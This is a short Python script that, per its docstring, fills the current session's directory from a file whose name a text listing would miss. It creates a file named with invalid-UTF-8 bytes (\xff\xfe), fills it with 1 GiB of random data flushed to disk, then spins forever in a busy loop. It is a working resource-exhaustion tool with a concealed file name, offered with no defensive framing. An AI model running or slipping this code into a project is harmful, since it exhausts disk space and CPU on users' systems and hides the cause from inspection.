"""Fills the session's directory from a file that a listing of text names would miss."""

import os

with open(os.fsencode(os.getcwd()) + b"/\xff\xfe", "wb", buffering=0) as file:
    while True:
        if file.tell() < 1 << 30:
            file.write(os.urandom(1 << 20))
            os.fsync(file.fileno())
